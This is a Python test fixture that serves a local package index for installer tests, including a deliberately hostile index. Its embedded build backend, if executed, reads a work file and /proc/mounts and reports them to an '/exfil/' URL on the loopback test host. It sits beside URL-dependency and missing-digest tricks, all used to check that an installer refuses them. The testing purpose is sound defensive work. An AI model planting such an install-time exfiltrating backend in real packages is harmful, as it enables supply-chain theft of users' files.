"""A package index for the install tests: PEP 503 pages and wheels served over HTTPS on the
host's loopback (127.0.0.2, as "api.mirror.test" through the tests' resolver), with the test
session's CA. Two packages, made here: `hazmat-probe-native`, a compiled one (a shared object
built with the host's C compiler, loaded with ctypes: what a compiled extension needs of the
place it is installed in), and `hazmat-probe-pure`, which depends on it. Each file's metadata
is served on its own too (PEP 658), as PyPI does.

`serve_hostile` is an index that tries to run code at fetch and to slip files past the digest
check: `hazmat-probe-deep` depends on `hazmat-probe-urldep`, whose metadata names a source
distribution by URL on the same index (`Requires-Dist: hazmat-probe-evil @ https://...`); that
sdist's build backend is in its own tree (`backend-path = ["."]`) and, if it ever runs, fetches
`/exfil/<SHA-256 of the download's want.json>` and `/exfil/mounts` from the index (a GET is
recorded, whatever the answer). `hazmat-probe-sdistonly` has only that sdist on the index,
`hazmat-probe-wheelurl` names a wheel by URL (`hazmat-probe-target`, on no page), and
`hazmat-probe-nohash`'s link carries no digest."""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import shutil
import subprocess
import sysconfig
import tarfile
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from tls_servers import Routes, https_server

NATIVE_INIT = """import ctypes, os
_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libprobe.so"))
def twice(x):
    return _lib.probe_twice(x)
"""
PURE_INIT = """from probe_native import twice
VALUE = twice(21)
class Box:
    def __init__(self, n):
        self.n = n
"""


@dataclass
class Index:
    url: str
    ca_pem: bytes
    requests: Counter[str] = field(default_factory=Counter)  # path -> GETs

    def exfiltrated(self) -> list[str]:
        """The paths a package's build backend fetched (it ran)."""
        return [path for path in self.requests if path.startswith("/exfil")]


BACKEND = """import hashlib, os, ssl, urllib.request
def _tell(what):
    context = ssl.create_default_context(cafile=os.environ.get("PIP_CERT") or None)
    url = "https://api.mirror.test:{port}/exfil/" + what
    urllib.request.urlopen(url, context=context, timeout=20).read()
try:
    _tell(hashlib.sha256(open("/work/want.json", "rb").read()).hexdigest())
    _tell("mounts-" + str(len(open("/proc/mounts").read())))
except Exception as exc:
    _tell("failed-" + type(exc).__name__)
def get_requires_for_build_wheel(config_settings=None):
    return []
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    raise SystemExit("the hostile backend ran")
build_wheel = prepare_metadata_for_build_wheel
"""
PYPROJECT = b"""[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "hazmat-probe-evil"
version = "1.0"
"""


def _wheel(dist: str, version: str, tag: str, files: dict[str, bytes], requires: str) -> bytes:
    info = f"{dist.replace('-', '_')}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n{requires}"
    files = {
        **files,
        f"{info}/METADATA": meta.encode(),
        f"{info}/WHEEL": (
            f"Wheel-Version: 1.0\nGenerator: hazmat-tests\nRoot-Is-Purelib: "
            f"{'true' if tag.endswith('any') else 'false'}\nTag: {tag}\n"
        ).encode(),
    }
    record = [
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
        for name, data in files.items()
    ]
    files[f"{info}/RECORD"] = ("\n".join([*record, f"{info}/RECORD,,"]) + "\n").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _shared_object(directory: Path) -> bytes:
    compiler = shutil.which("cc") or shutil.which("gcc")
    assert compiler, "the install tests build a shared object: install gcc (Debian's gcc)"
    source = directory / "probe.c"
    source.write_text("int probe_twice(int x) { return 2 * x; }\n")
    target = directory / "libprobe.so"
    subprocess.run([compiler, "-shared", "-fPIC", "-O2", "-o", target, source], check=True)
    return target.read_bytes()


def wheels(directory: Path) -> dict[str, bytes]:
    """The two packages' files, by file name."""
    platform = sysconfig.get_platform().replace("-", "_").replace(".", "_")
    native = _wheel(
        "hazmat-probe-native",
        "1.0",
        f"py3-none-{platform}",
        {
            "probe_native/__init__.py": NATIVE_INIT.encode(),
            "probe_native/libprobe.so": _shared_object(directory),
        },
        "",
    )
    pure = _wheel(
        "hazmat-probe-pure",
        "1.0",
        "py3-none-any",
        {"probe_pure/__init__.py": PURE_INIT.encode()},
        "Requires-Dist: hazmat-probe-native\n",
    )
    return {
        f"hazmat_probe_native-1.0-py3-none-{platform}.whl": native,
        "hazmat_probe_pure-1.0-py3-none-any.whl": pure,
    }


def _sdist(port: int, project: str) -> bytes:
    files = {
        "pyproject.toml": PYPROJECT.replace(b"hazmat-probe-evil", project.encode()),
        "backend.py": BACKEND.replace("{port}", str(port)).encode(),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {project}\nVersion: 1.0\n".encode(),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{project.replace('-', '_')}-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _pure(name: str, requires: str = "") -> tuple[str, bytes]:
    dist = name.replace("-", "_")
    wheel = _wheel(name, "1.0", "py3-none-any", {f"{dist}/__init__.py": b""}, requires)
    return f"{dist}-1.0-py3-none-any.whl", wheel


HTML = {"Content-Type": "text/html"}
FILES = {"Content-Type": "application/octet-stream"}


def _page(links: str) -> bytes:
    return f"<!DOCTYPE html><html><body>\n{links}</body></html>".encode()


def serve_hostile(directory: Path) -> tuple[Index, http.server.HTTPServer]:
    routes: Routes = {}
    server, ca_pem, requests = https_server(directory, routes)
    port = server.server_address[1]
    base = f"https://api.mirror.test:{port}/files"
    sdists = {p: _sdist(port, p) for p in ("hazmat-probe-evil", "hazmat-probe-sdistonly")}
    for project, sdist in sdists.items():
        routes[f"/files/{project.replace('-', '_')}-1.0.tar.gz"] = (FILES, sdist)
    evil = f"hazmat-probe-evil @ {base}/hazmat_probe_evil-1.0.tar.gz"
    target = f"hazmat-probe-target @ {base}/hazmat_probe_target-1.0-py3-none-any.whl"
    wheels = [
        _pure("hazmat-probe-deep", "Requires-Dist: hazmat-probe-urldep\n"),
        _pure("hazmat-probe-urldep", f"Requires-Dist: {evil}\n"),
        _pure("hazmat-probe-wheelurl", f"Requires-Dist: {target}\n"),
        _pure("hazmat-probe-nohash"),
    ]
    name, data = _pure("hazmat-probe-target")  # on no page: reached only by its URL
    routes[f"/files/{name}"] = (FILES, data)
    for name, data in wheels:
        project = name.split("-", 1)[0].replace("_", "-")
        digest = "" if "nohash" in name else f"#sha256={hashlib.sha256(data).hexdigest()}"
        routes[f"/simple/{project}/"] = (HTML, _page(f'<a href="/files/{name}{digest}">{name}</a>'))
        routes[f"/files/{name}"] = (FILES, data)
    only = "hazmat_probe_sdistonly-1.0.tar.gz"
    digest = hashlib.sha256(sdists["hazmat-probe-sdistonly"]).hexdigest()
    routes["/simple/hazmat-probe-sdistonly/"] = (
        HTML,
        _page(f'<a href="/files/{only}#sha256={digest}">{only}</a>'),
    )
    url = f"https://api.mirror.test:{port}/simple/"
    return Index(url, ca_pem, requests), server


def serve(
    directory: Path, host: str = "api.mirror.test", trial: bool = False
) -> tuple[Index, http.server.HTTPServer]:
    """The index over TLS as `host`, or with `trial` over plain HTTP as `localhost` (a trial
    index on loopback: policy packages.trial_index)."""
    routes: Routes = {}
    html = {"Content-Type": "text/html"}
    # as PyPI serves its files: they never change
    files = {
        "Content-Type": "application/octet-stream",
        "Cache-Control": "max-age=365000000, immutable",
    }
    for name, data in wheels(directory).items():
        project = name.split("-", 1)[0].replace("_", "-")
        # its metadata on its own (PEP 658, as PyPI serves it): pip resolves without the file
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            [meta] = [n for n in archive.namelist() if n.endswith(".dist-info/METADATA")]
            metadata = archive.read(meta)
        core = f"sha256={hashlib.sha256(metadata).hexdigest()}"
        link = (
            f'<a href="/files/{name}#sha256={hashlib.sha256(data).hexdigest()}" '
            f'data-core-metadata="{core}" data-dist-info-metadata="{core}">{name}</a>\n'
        )
        page = f"<!DOCTYPE html><html><body>\n{link}</body></html>".encode()
        routes[f"/simple/{project}/"] = (html, page)
        routes[f"/files/{name}"] = (files, data)
        routes[f"/files/{name}.metadata"] = (files, metadata)
    server, ca_pem, requests = https_server(directory, routes, plain=trial)
    where = "http://localhost" if trial else f"https://{host}"
    return Index(f"{where}:{server.server_address[1]}/simple/", ca_pem, requests), server
